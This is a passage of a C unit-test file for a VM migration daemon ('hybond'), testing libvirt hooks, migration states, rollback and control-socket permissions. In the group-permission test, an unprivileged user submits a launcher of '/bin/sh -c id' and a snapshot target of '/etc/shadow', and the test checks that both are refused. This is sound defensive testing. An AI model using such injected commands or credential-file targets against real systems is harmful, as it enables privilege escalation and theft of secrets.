	setup(VM_MODE_FAILOVER, 0);
	CU_ASSERT_EQUAL_FATAL(mig_hook_incoming(V, NULL, "nosuch", NULL, err, sizeof(err), &answered), 0);
	CU_ASSERT_EQUAL(until("D_INCOMING", 3000), 0);
	CU_ASSERT_EQUAL(p_got(HB_MSG_MIGRATE_INCOMING), 0);
	teardown();
}

/* A libvirt VM running here; D's hook asks (MIGRATE_INCOMING on a peer channel the test
 * plays): until S_MIGRATING. */
static void lv_source_asked(void)
{
	struct peer_conn *pc;
	struct hb_msg req;
	char err[256];
	int sv[2];

	setup_lv = 1;
	setup(VM_MODE_FAILOVER, 1);
	CU_ASSERT_EQUAL_FATAL(socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0,
					 sv), 0);
	tclose(&P.s);
	pc = peer_conn_new(D.l, sv[0], &tpeer_ops, NULL, "B");
	CU_ASSERT_PTR_NOT_NULL_FATAL(pc);
	P.s.fd = sv[1];
	hb_msg_init(&req, HB_MSG_MIGRATE_INCOMING, 5);
	req.u.migrate_incoming.vm = "vm1";
	(void)esw_parse_mac(MAC_S, req.u.migrate_incoming.mac);
	req.u.migrate_incoming.dest = "B";
	CU_ASSERT_EQUAL_FATAL(mig_start_source_incoming(V, pc, &req, err, sizeof(err)), 0);
	CU_ASSERT_EQUAL(until("S_MIGRATING", 2000), 0);
}

/* Source: MIGRATE_INCOMING: RX to the standby, TX pinned, MIGRATE_READY "libvirt"; no
 * `migrate` of our own; STOP -> MIGRATE_STOPPED; QEMU's "completed", then
 * MIGRATE_FINISHED -> cleanup. */
static void test_lv_source_incoming(void)
{
	lv_source_asked();
	pump(20);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_STANDBY);
	CU_ASSERT_EQUAL(G.n_prepare, 1);
	CU_ASSERT_EQUAL(called("migrate"), 0);
	CU_ASSERT_STRING_EQUAL(P.ready_uri, "libvirt");
	/* libvirt's job: QEMU unplugs the primary, migrates, stops */
	hv_event(HV_EV_UNPLUG_PRIMARY, "vf0");
	g_vf_vanished();
	hv_event(HV_EV_MIGRATION, "active");
	hv_event(HV_EV_STOP, "");
	CU_ASSERT_STRING_EQUAL(phase(), "S_STOPPED");
	pump(20);
	CU_ASSERT_EQUAL(p_got(HB_MSG_MIGRATE_STOPPED), 1);
	/* (hv_libvirt passes QEMU's "completed" through when the job is not ours) */
	hv_event(HV_EV_MIGRATION, "completed");
	CU_ASSERT(answer_migrate("completed", 900) >= 1);
	pump(20);
	CU_ASSERT_STRING_EQUAL(phase(), "S_DEST_SWITCHBACK");
	CU_ASSERT_EQUAL(P.n_results, 1);
	CU_ASSERT_EQUAL(P.result_ok[0], 1);
	p_finished();
	CU_ASSERT_EQUAL(until("none", 1000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_NONE);
	CU_ASSERT_FALSE(V->here);
	teardown();
}

/* The hook's request on the control socket, as hybond-libvirt-hook sends it: an unknown
 * domain is answered at once; a registered one after the source's MIGRATE_READY, with the
 * domain XML naming this host in its metadata and this host's VF (vf_pci) in the pair. */
static const char HOOK_XML[] =
	"<domain type='kvm'><name>vm1</name><uuid>8f0a2b9e-0d4c-4a53-9c1e-3f6e2d1b7a10</uuid>"
	"<metadata><hybond:vm xmlns:hybond='https://hybond.invalid/xmlns/libvirt/1' host='B'/>"
	"</metadata><devices>"
	"<interface type='ethernet'><mac address='52:54:00:18:00:10'/>"
	"<target dev='enp3s0f0' managed='no'/><model type='virtio'/><teaming type='persistent'/>"
	"<alias name='ua-standby0'/></interface>"
	"<interface type='hostdev' managed='yes'><mac address='52:54:00:18:00:10'/><source>"
	"<address type='pci' domain='0x0000' bus='0x3b' slot='0x02' function='0x1'/></source>"
	"<teaming type='transient' persistent='ua-standby0'/><alias name='ua-vf0'/></interface>"
	"<channel type='unix'><source mode='bind' path='/run/hybond/vm1/agent.sock'/>"
	"<target type='virtio' name='org.hybond.0'/></channel></devices></domain>";

static int ctl_connect(const char *path)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	(void)snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
	if (fd >= 0 && connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		(void)close(fd);
		return -1;
	}
	return fd;
}

/* Send one request line on fd (connected already: closed here), pump until the answer
 * line comes (max_ms); the answer or NULL. */
static json_t *ctl_ask_fd(int fd, json_t *req, unsigned max_ms)
{
	char *line = json_dumps(req, JSON_COMPACT), buf[65536];
	size_t len = 0;
	unsigned t;
	json_t *ans = NULL;

	json_decref(req);
	CU_ASSERT_FATAL(fd >= 0 && line != NULL);
	CU_ASSERT(write(fd, line, strlen(line)) == (ssize_t)strlen(line));
	CU_ASSERT(write(fd, "\n", 1) == 1);
	free(line);
	for (t = 0; t <= max_ms && !ans; t += 10) {
		struct pollfd p = { .fd = fd, .events = POLLIN };

		pump(10);
		while (len < sizeof(buf) - 1 && poll(&p, 1, 0) == 1) {
			ssize_t n = read(fd, buf + len, sizeof(buf) - 1 - len);

			if (n <= 0)
				break;
			len += (size_t)n;
		}
		buf[len] = 0;
		if (strchr(buf, '\n'))
			ans = json_loads(buf, JSON_DISABLE_EOF_CHECK, NULL);
	}
	(void)close(fd);
	return ans;
}

static json_t *ctl_ask(const char *path, json_t *req, unsigned max_ms)
{
	return ctl_ask_fd(ctl_connect(path), req, max_ms);
}

static void test_lv_hook_ctl(void)
{
	char err[256], path[160];
	const char *x;
	json_t *a;

	setup_lv = 1;
	setup(VM_MODE_FAILOVER, 0);
	CU_ASSERT_EQUAL_FATAL(vm_config_set(&V->cfg, "vf_pci", "0000:5e:10.3", err, sizeof(err)), 0);
	CU_ASSERT_NOT_EQUAL(vm_config_set(&V->cfg, "vf_pci", "5e:10.3", err, sizeof(err)), 0);
	(void)snprintf(path, sizeof(path), "%s/ctl.sock", dir);
	(void)snprintf(D.cfg.ctl_socket, sizeof(D.cfg.ctl_socket), "%s", path);
	CU_ASSERT_EQUAL_FATAL(ctl_listen(&D, err, sizeof(err)), 0);
	/* not a hybond VM here: at once */
	a = ctl_ask(path, json_pack("{s:s, s:s, s:s, s:s, s:s}", "cmd", "libvirt-hook", "domain",
				    "other", "op", "migrate", "sub", "begin", "xml", HOOK_XML), 500);
	CU_ASSERT_PTR_NOT_NULL_FATAL(a);
	CU_ASSERT_TRUE(json_is_true(json_object_get(a, "ok")));
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(a, "mode")), "unknown");
	json_decref(a);
	/* vm1: the source B moves first, then the answer */
	a = ctl_ask(path, json_pack("{s:s, s:s, s:s, s:s, s:s}", "cmd", "libvirt-hook", "domain",
				    "vm1", "op", "migrate", "sub", "begin", "xml", HOOK_XML), 3000);
	CU_ASSERT_PTR_NOT_NULL_FATAL(a);
	CU_ASSERT_TRUE(json_is_true(json_object_get(a, "ok")));
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(a, "mode")), "coordinated");
	CU_ASSERT_EQUAL(p_got(HB_MSG_MIGRATE_INCOMING), 1);
	CU_ASSERT_STRING_EQUAL(phase(), "D_INCOMING");
	x = json_string_value(json_object_get(a, "xml"));
	CU_ASSERT_PTR_NOT_NULL_FATAL(x);
	CU_ASSERT_PTR_NOT_NULL(strstr(x, "host=\"A\""));
	CU_ASSERT_PTR_NOT_NULL(strstr(x, "bus=\"0x5e\""));
	CU_ASSERT_PTR_NOT_NULL(strstr(x, "slot=\"0x10\""));
	CU_ASSERT_PTR_NOT_NULL(strstr(x, "function=\"0x3\""));
	CU_ASSERT_PTR_NULL(strstr(x, "0x3b"));
	json_decref(a);
	/* another op for it: acknowledged at once */
	a = ctl_ask(path, json_pack("{s:s, s:s, s:s, s:s}", "cmd", "libvirt-hook", "domain", "vm1",
				    "op", "started", "sub", "begin"), 500);
	CU_ASSERT_PTR_NOT_NULL(a);
	CU_ASSERT_TRUE(json_is_true(json_object_get(a, "ok")));
	json_decref(a);
	ctl_close(&D);
	teardown();
}

/* Connect as uid 65534 with primary group 65534 and groups supplementary (n of them):
 * SO_PEERCRED / SO_PEERGROUPS take the credentials at connect(). */
static int ctl_connect_as_nobody(const char *path, const gid_t *groups, size_t n)
{
	gid_t root_group = 0;
	int fd;

	CU_ASSERT_FATAL(setgroups(n, groups) == 0 && setegid(65534) == 0 && seteuid(65534) == 0);
	fd = ctl_connect(path);
	CU_ASSERT_FATAL(seteuid(0) == 0 && setegid(0) == 0 && setgroups(1, &root_group) == 0);
	return fd;
}

static const char *ans_error(json_t *a)
{
	const char *e = json_string_value(json_object_get(a, "error"));

	return e ? e : "";
}

/* A member of ctl_group (through a supplementary group) operates VMs but cannot define
 * commands, sockets or files; someone in neither is refused at connect. */
static void test_ctl_group(void)
{
	struct group *g = getgrnam("users");
	char err[256], path[160];
	gid_t member;
	json_t *a;

	setup(VM_MODE_FAILOVER, 1);
	CU_ASSERT_PTR_NOT_NULL_FATAL(g);        /* Debian's base-passwd: gid 100 */
	member = g->gr_gid;
	(void)snprintf(D.cfg.ctl_group, sizeof(D.cfg.ctl_group), "users");
	/* the group only as a supplementary one (the primary is 65534) */
	(void)snprintf(path, sizeof(path), "%s/ctl.sock", dir);
	(void)snprintf(D.cfg.ctl_socket, sizeof(D.cfg.ctl_socket), "%s", path);
	CU_ASSERT_FATAL(chmod(dir, 0711) == 0);
	CU_ASSERT_EQUAL_FATAL(ctl_listen(&D, err, sizeof(err)), 0);
	a = ctl_ask_fd(ctl_connect_as_nobody(path, &member, 1),
		       json_pack("{s:s}", "cmd", "status"), 1000);
	CU_ASSERT_TRUE(json_is_true(json_object_get(a, "ok")));
	json_decref(a);
	a = ctl_ask_fd(ctl_connect_as_nobody(path, &member, 1),
		       json_pack("{s:s, s:{s:s, s:s, s:s}}", "cmd", "vm-add", "vm", "name", "evil",
				 "mac", "52:54:00:00:00:99", "launcher", "/bin/sh -c id"), 1000);
	CU_ASSERT_PTR_NOT_NULL_FATAL(a);
	CU_ASSERT_FALSE(json_is_true(json_object_get(a, "ok")));
	CU_ASSERT_PTR_NOT_NULL(strstr(ans_error(a), "root only"));
	json_decref(a);
	CU_ASSERT_PTR_NULL(hostd_vm(&D, "evil"));
	a = ctl_ask_fd(ctl_connect_as_nobody(path, &member, 1),
		       json_pack("{s:s, s:s, s:s}", "cmd", "snapshot", "vm", "vm1", "file",
				 "/etc/shadow"), 1000);
	CU_ASSERT_PTR_NOT_NULL(strstr(ans_error(a), "root only"));
	json_decref(a);
	a = ctl_ask_fd(ctl_connect_as_nobody(path, &member, 1),
		       json_pack("{s:s, s:s, s:s, s:s}", "cmd", "libvirt-hook", "domain", "vm1",
				 "op", "migrate", "sub", "begin"), 1000);
	CU_ASSERT_PTR_NOT_NULL(strstr(ans_error(a), "root only"));
	json_decref(a);
	a = ctl_ask_fd(ctl_connect_as_nobody(path, &member, 1),
		       json_pack("{s:s, s:s}", "cmd", "vm-del", "vm", "vm1"), 1000);
	CU_ASSERT_PTR_NOT_NULL(strstr(ans_error(a), "root only"));
	json_decref(a);
	CU_ASSERT_PTR_NOT_NULL(hostd_vm(&D, "vm1"));
	/* operating is allowed: a migrate to an unknown peer fails for that reason */
	a = ctl_ask_fd(ctl_connect_as_nobody(path, &member, 1),
		       json_pack("{s:s, s:s, s:s}", "cmd", "migrate", "vm", "vm1", "to", "nowhere"), 1000);
	CU_ASSERT_TRUE(ans_error(a)[0] != 0);        /* an error, not about root */
	CU_ASSERT_PTR_NULL(strstr(ans_error(a), "root only"));
	json_decref(a);
	/* not in the group: the socket's mode keeps it out, and the daemon refuses it even
	 * when someone loosened the mode */
	CU_ASSERT_EQUAL(ctl_connect_as_nobody(path, NULL, 0), -1);
	CU_ASSERT_FATAL(chmod(path, 0666) == 0);
	a = ctl_ask_fd(ctl_connect_as_nobody(path, NULL, 0), json_pack("{s:s}", "cmd", "status"),
		       1000);
	CU_ASSERT_PTR_NOT_NULL(strstr(ans_error(a), "permission denied"));
	json_decref(a);
	ctl_close(&D);
	teardown();
}

/* Destination without a hook: an incoming domain appears (inmigrate), then resumes with
 * nobody having told the daemon: RX to the standby, the guest's VF awaited, fast path. */
static void test_lv_dest_unannounced(void)
{
	setup_lv = 1;
	setup(VM_MODE_FAILOVER, 0);
	{
		char err[128];

		CU_ASSERT_EQUAL_FATAL(vm_attach(V, err, sizeof(err)), 0);
	}
	H.ready = 1;
	H.cb->on_ready(H.arg);
	CU_ASSERT_EQUAL(answer_status(0, "inmigrate"), 1);
	CU_ASSERT_FALSE(V->here);
	CU_ASSERT_PTR_NULL(V->op);
	pump(50);
	G.vf_present = G.vf_up = 0;
	G.active = HB_PATH_STANDBY;
	(void)close(G.s.fd);    /* the daemon starts a new session at RESUME */
	G.s.fd = -1;
	hv_event(HV_EV_RESUME, "");
	CU_ASSERT_PTR_NOT_NULL_FATAL(V->op);
	CU_ASSERT_TRUE(V->here);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_STANDBY);
	CU_ASSERT_EQUAL(until("D_WAIT_VF", 1000), 0);
	pump(100);
	G.vf_present = G.vf_up = 1;
	g_status(NULL);
	CU_ASSERT_EQUAL(until("none", 2000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_VF);
	CU_ASSERT_EQUAL(G.n_resume, 1);
	teardown();
}

/* Source of a `virsh migrate` that fails (libvirt/QEMU: MIGRATION failed): no cancel of
 * our own, the rollback as for hybond migrate: D told, RX back to the VF once the guest
 * reports it (QEMU re-plugs the failover primary), RESUME_FAST_PATH, settled. */
static void test_lv_source_failed(void)
{
	lv_source_asked();
	hv_event(HV_EV_UNPLUG_PRIMARY, "vf0");
	g_vf_vanished();
	pump(20);
	hv_event(HV_EV_MIGRATION, "failed");
	CU_ASSERT_EQUAL(called("migrate_cancel"), 0);   /* QEMU said so: nothing to cancel */
	CU_ASSERT_STRING_EQUAL(phase(), "S_RB_WAIT_VF");
	pump(20);
	CU_ASSERT_EQUAL(P.n_results, 1);
	CU_ASSERT_EQUAL(P.result_ok[0], 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_STANDBY);
	G.vf_present = G.vf_up = 1;
	g_status(NULL);
	CU_ASSERT_EQUAL(until("S_RB_SETTLE", 1000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_VF);
	CU_ASSERT_EQUAL(until("none", 5000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_VF);
	CU_ASSERT_TRUE(V->here);
	teardown();
}

/* Source, nobody warned it: QEMU's UNPLUG_PRIMARY starts a reactive migration: RX to the
 * standby at once, TX pinned; no peer to tell; the domain ending after STOP (libvirt
 * confirmed the migration) counts as completed too. */
static void test_lv_reactive(void)
{
	uint64_t id;

	setup_lv = 1;
	setup(VM_MODE_FAILOVER, 1);
	hv_event(HV_EV_UNPLUG_PRIMARY, "vf0");
	CU_ASSERT_PTR_NOT_NULL_FATAL(V->op);
	id = V->op ? V->op->id : 0;     /* the journal's HYBOND_OP_ID (hostd/logfields.c) */
	CU_ASSERT_NOT_EQUAL(id, 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_STANDBY);   /* before the agent answers */
	CU_ASSERT_EQUAL(until("S_MIGRATING", 1000), 0);
	CU_ASSERT_EQUAL(G.n_prepare, 1);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_STANDBY);
	CU_ASSERT_EQUAL(called("migrate"), 0);
	hv_event(HV_EV_MIGRATION, "active");
	hv_event(HV_EV_STOP, "");
	CU_ASSERT_STRING_EQUAL(phase(), "S_STOPPED");
	H.cb->on_closed(H.arg, -ECONNRESET);
	CU_ASSERT_EQUAL(until("none", 1000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_NONE);
	teardown();
	/* the next operation has an id of its own */
	setup_lv = 1;
	setup(VM_MODE_FAILOVER, 1);
	hv_event(HV_EV_UNPLUG_PRIMARY, "vf0");
	CU_ASSERT_PTR_NOT_NULL_FATAL(V->op);
	CU_ASSERT_TRUE(V->op && V->op->id > id);
	teardown();
	/* a QMP (non-libvirt) VM does not react: hybond migrate or nothing */
	setup(VM_MODE_FAILOVER, 1);
	hv_event(HV_EV_UNPLUG_PRIMARY, "vf0");
	CU_ASSERT_PTR_NULL(V->op);
	teardown();
}

static CU_TestInfo tests[] = {
	{ "cancel in MIGRATING, RESUME_FAST_PATH again after a late VF change",
	  test_cancel_migrating },
	{ "cancel refused in stop-and-copy and after completion", test_cancel_refused },
	{ "cancel too late: the migration completed", test_cancel_too_late },
	{ "peer lost in MIGRATING: cancel, then roll back", test_peer_lost_migrating },
	{ "rollback without the VF back: RX stays on the standby", test_rollback_no_vf },
	{ "a failed call keeps its errno in the result", test_fail_errno },
	{ "a hostile destination's exec:/file: URI: refused, nothing run", test_hostile_uri },
	{ "ctl_group (supplementary): operates VMs, defines nothing", test_ctl_group },
	{ "the migration URI: only the port is a TCP peer's", test_peer_uri },
	{ "recovery: QEMU's answer decides", test_recover_source },
	{ "recovery: a migration before a drill of the same VM", test_recover_migration_first },
	{ "recovery: bond VF re-plugged with a fresh id", test_recover_bond_replug },
	{ "destination without a guest agent", test_dest_no_agent },
	{ "libvirt: the hook's migrate begin on the destination", test_lv_hook_dest },
	{ "libvirt: a metadata host is one word in the launcher", test_lv_hook_peer_word },
	{ "a command that closes its stdout and runs on: waited for on the loop", test_child_no_block },
	{ "libvirt: the source refuses or is unknown: not coordinated", test_lv_hook_refused },
	{ "libvirt: the hook on the control socket: XML for this host", test_lv_hook_ctl },
	{ "libvirt: MIGRATE_INCOMING on the source", test_lv_source_incoming },
	{ "libvirt: an unannounced incoming domain resumes here", test_lv_dest_unannounced },
	{ "libvirt: virsh migrate fails: the source rolls back", test_lv_source_failed },
	{ "libvirt: reactive source (UNPLUG_PRIMARY without notice)", test_lv_reactive },
	CU_TEST_INFO_NULL,
};

int main(int argc, char **argv)
{
	CU_SuiteInfo suites[] = {
		{ "migrate", NULL, NULL, NULL, NULL, tests },
		CU_SUITE_INFO_NULL,
	};
	/* the harness's guest sentry is this binary re-executed (hostd_harness.c) */
	if (argc > 1 && !strcmp(argv[1], SENTRY_ARG))
		return sentry_main(argc - 2, argv + 2);
	return hb_cu_run(suites);
}
